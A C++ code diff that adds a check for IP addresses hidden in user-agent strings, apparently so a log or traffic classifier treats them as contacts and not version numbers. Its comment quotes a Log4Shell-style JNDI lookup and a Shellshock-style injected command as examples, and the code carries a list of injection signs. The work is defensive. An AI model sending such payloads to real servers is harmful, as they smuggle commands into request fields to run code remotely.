@@ -141,6 +141,24 @@ bool is_file_name(const FieldPlace& place) noexcept {
            });
 }
 
+/// Whether an address in a user agent is one rather than a version: all of it, in a URL, with a
+/// port, or in a command or look-up that somebody tries to have run.
+///
+///     ${jndi:ldap://203.0.113.9/a}    () { :;}; ping 203.0.113.9    but not Name/203.0.113.9
+bool is_address_in_agent(const FieldPlace& place) noexcept {
+    const auto front = before(place);
+    const auto behind = place.text.substr(front.size() + place.value.size());
+    const bool has_port = behind.size() > 1 && behind[0] == ':' && ascii::is_digit(behind[1]);
+    if (has_port || front.ends_with("//") || front.ends_with('@') || front.ends_with('\\') ||
+        place.value.size() == place.text.size()) {
+        return true;
+    }
+    constexpr std::array signs = {"${", "$(", "() {", "`", "/bin/", "/dev/"};
+    return std::any_of(signs.begin(), signs.end(), [&](const char* sign) {
+        return place.text.find(sign) != place.text.npos;
+    });
+}
+
 Standing contact_if(bool holds) noexcept {
     return holds ? Standing::contact : Standing::mention;
 }
@@ -162,7 +180,8 @@ Standing standing_of(Type type, const FieldPlace& place) noexcept {
     case Type::lease:
     case Type::ipv6:
     case Type::network:
-        if (place.role == Role::agent || is_version_field(place.name)) {
+        if ((place.role == Role::agent && !is_address_in_agent(place)) ||
+            is_version_field(place.name)) {
             return Standing::refused; // a version
         }
         return contact_if(is_in_host(place) || place.role == Role::client);
